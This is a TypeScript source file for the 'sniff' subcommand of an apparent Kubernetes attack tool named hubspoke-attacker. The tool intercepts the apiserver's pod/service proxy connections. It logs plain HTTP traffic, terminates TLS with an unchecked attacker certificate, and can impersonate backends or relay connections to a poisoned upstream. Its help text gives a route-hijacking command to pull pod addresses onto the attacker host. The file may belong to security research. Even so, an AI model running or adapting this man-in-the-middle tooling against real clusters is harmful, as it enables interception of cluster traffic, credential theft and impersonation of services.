// `hubspoke-attacker sniff`: flags → a sniffer on the apiserver's pod/service proxy path. Each exchange is shown
// live on stdout and, with --output, saved as a JSON line; the attacker's own logs go to stderr. Runs until
// SIGINT or SIGTERM, then exits 0.
import { appendFile, readFile } from 'node:fs/promises';
import { Command } from 'commander';
import { collectPort, hostPort, ipAddress } from './flag-values.ts';
import { pino } from 'pino';
import { exchangeRecord, formatExchange } from '../sniff/exchange-report.ts';
import { startSniff, type SniffListener } from '../sniff/sniff.ts';

interface SniffFlags {
  address: string;
  port: number[];
  tlsPort: number[];
  impersonate?: boolean;
  impersonateBody: string;
  sourceAddress?: string;
  upstream?: { host: string; port: number };
  tlsCertFile?: string;
  tlsPrivateKeyFile?: string;
  output?: string;
  logLevel: string;
}

/** Adds the `sniff` subcommand to `program`; returns the subcommand. */
export function addSniffCommand(program: Command): Command {
  return program
    .command('sniff')
    .description(
      'Relay the apiserver\'s pod/service proxy connections and read them: plain HTTP as it passes, https: by showing the attacker\'s own certificate, which the apiserver never checks. Put the pods\' addresses on this host with `ip route add local <pod-cidr> dev lo`.',
    )
    .option('--address <ip>', 'address to listen on (0.0.0.0: whatever destination the routes deliver)', '0.0.0.0')
    .option('--port <port>', 'a plain HTTP port to sniff, e.g. 8080 (repeat for several)', collectPort, [] as number[])
    .option('--tls-port <port>', 'a port whose TLS the attacker terminates, e.g. 8443 (repeat for several)', collectPort, [] as number[])
    .option('--impersonate', 'answer requests on --tls-port ports itself instead of relaying them')
    .option('--impersonate-body <text>', 'the body of the attacker\'s answers', 'served by hubspoke-attacker\n')
    .option('--source-address <ip>', 'source address of the relayed connections (one that policy routing sends on to the nodes)', ipAddress)
    .option('--upstream <host:port>', 'relay every connection here instead of to its original destination (one host, a poisoned address)', hostPort)
    .option('--tls-cert-file <file>', 'certificate shown on --tls-port ports (default: a fresh self-signed one)')
    .option('--tls-private-key-file <file>', 'key of --tls-cert-file')
    .option('--output <file>', 'append every exchange to this file as a JSON line')
    .option('--log-level <level>', 'pino level of the attacker\'s own logs (stderr)', 'warn')
    .action(async (flags: SniffFlags, command: Command) => {
      if (flags.port.length + flags.tlsPort.length === 0) command.error('error: give at least one --port or --tls-port');
      if (Boolean(flags.tlsCertFile) !== Boolean(flags.tlsPrivateKeyFile)) command.error('error: --tls-cert-file and --tls-private-key-file go together');
      if (flags.impersonate && flags.tlsPort.length === 0) command.error('error: --impersonate answers on --tls-port ports; give one');
      const read = (file: string, flag: string): Promise<string> =>
        readFile(file, 'utf8').catch((err: Error) => command.error(`error: cannot read ${flag} ${file}: ${err.message}`));
      const certificate = flags.tlsCertFile
        ? { cert: await read(flags.tlsCertFile, '--tls-cert-file'), key: await read(flags.tlsPrivateKeyFile!, '--tls-private-key-file') }
        : undefined;
      const body = flags.impersonateBody;
      const listeners: SniffListener[] = [
        ...flags.port.map((port) => ({ port, upstream: flags.upstream })),
        ...flags.tlsPort.map((port) => ({ port, tls: true, upstream: flags.upstream, ...(flags.impersonate ? { impersonate: () => ({ body }) } : {}) })),
      ];
      const logger = pino({ level: flags.logLevel }, pino.destination(2));
      const sniffer = await startSniff({ host: flags.address, listeners, sourceAddress: flags.sourceAddress, certificate, logger }).catch((err: NodeJS.ErrnoException) =>
        command.error(`error: cannot listen on ${flags.address} (${err.code ?? err.message}); change --address, --port or --tls-port`),
      );
      // Appends in order, one at a time, so lines never interleave.
      let saving = Promise.resolve();
      sniffer.onExchange((capture, exchange) => {
        process.stdout.write(formatExchange(capture, exchange));
        if (!flags.output) return;
        const line = `${JSON.stringify(exchangeRecord(capture, exchange))}\n`;
        saving = saving.then(() => appendFile(flags.output!, line)).catch((err: Error) => logger.error({ err: err.message }, 'cannot save an exchange'));
      });
      const ports = listeners.map((l, i) => `${sniffer.ports[i]}${l.tls ? (l.impersonate ? ' (TLS, impersonating)' : ' (TLS)') : ''}`);
      process.stdout.write(`sniffing on ${flags.address}, ports ${ports.join(', ')}\n`);
      await new Promise<void>((resolve) => {
        process.once('SIGINT', resolve);
        process.once('SIGTERM', resolve);
      });
      await sniffer.close();
      await saving;
    });
}
